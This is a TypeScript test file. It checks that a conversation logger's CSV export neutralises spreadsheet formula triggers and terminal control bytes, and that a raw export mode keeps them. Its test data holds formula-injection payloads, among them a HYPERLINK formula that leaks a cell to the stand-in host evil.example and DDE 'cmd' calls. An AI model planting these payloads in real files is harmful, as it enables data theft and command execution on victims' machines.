import fs from 'node:fs';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, expect, inject, it } from 'vitest';
import { createContext } from '../../src/cli/context.js';
import { run } from '../../src/cli/run.js';
import { toCsv } from '../../src/export/csv.js';
import type { ConversationLogger } from '../../src/logger/conversation-logger.js';
import { describeEachBackend, freshDatabaseUrl, openLogger } from '../support/stores.js';

/** Cells OWASP lists as formula triggers, and raw control bytes a terminal or viewer would act on. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'ok \u001b[31mred\u001b[0m \u0007bell',
];

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let s = '';
  for await (const c of chunks) s += c;
  return s;
}

/** The cells of an RFC 4180 text, quotes undone. */
function cells(csv: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n]*)(,|\r\n|$)/gy;
  for (let m = re.exec(csv); m && m[0] !== ''; m = re.exec(csv)) {
    const v = m[1]!;
    out.push(v.startsWith('"') ? v.slice(1, -1).replaceAll('""', '"') : v);
  }
  return out;
}

describeEachBackend('CSV export and spreadsheet formulas', (backend) => {
  let logger: ConversationLogger;
  let url: string;

  beforeAll(async () => {
    url = await freshDatabaseUrl(backend);
    logger = await openLogger(backend, { databaseUrl: url });
    const callId = await logger.startCall({ callId: 'csv-call' });
    const conversationId = await logger.startConversation({ callId });
    for (const s of HOSTILE) {
      await logger.logUserMessage({ conversationId, content: s });
      await logger.logAssistantMessage({ conversationId, content: 'fine', llmModel: s, processingTimeMs: 5 });
      await logger.logToolCall({ conversationId, name: s, arguments: s, output: 'x' });
    }
    await logger.flush();
  });
  afterAll(() => logger?.close());

  it('given hostile transcripts, model and tool names, when exported, then no cell starts a formula and no control byte is left', async () => {
    const csv = await collect(toCsv(await logger.dataSource(), 0));
    const all = cells(csv);
    expect(all.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // eslint-disable-next-line no-control-regex
    expect(all.filter((c) => /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f]/.test(c))).toEqual([]);
    // The text itself is kept, behind the apostrophe spreadsheets read as "this is text".
    expect(all).toContain(`'${HOSTILE[0]}`);
    expect(all).toContain("'-2+3");
    expect(all).toContain('ok [31mred[0m bell');
  });

  it('given raw: true (or convlog export --raw), then every cell is written as stored', async () => {
    const raw = cells(await collect(toCsv(await logger.dataSource(), 0, { raw: true })));
    for (const s of HOSTILE) expect(raw).toContain(s);

    const config = path.join(inject('tmpDir'), 'csv.config.mjs');
    fs.writeFileSync(config, 'export default {};\n');
    const exportCsv = async (...extra: string[]) => {
      const ctx = createContext();
      const stdout = new PassThrough();
      let out = '';
      stdout.on('data', (b: Buffer) => (out += b.toString()));
      Object.assign(ctx, { stdout, stderr: new PassThrough() });
      const code = await run(['export', '--format', 'csv', ...extra, '--config', config, '--database-url', url], ctx);
      expect(code).toBe(0);
      return cells(out);
    };
    const safe = await exportCsv();
    expect(safe).toContain(`'${HOSTILE[1]}`);
    expect(safe).not.toContain(HOSTILE[1]);
    const viaCli = await exportCsv('--raw');
    for (const s of HOSTILE) expect(viaCli).toContain(s);
  });
});
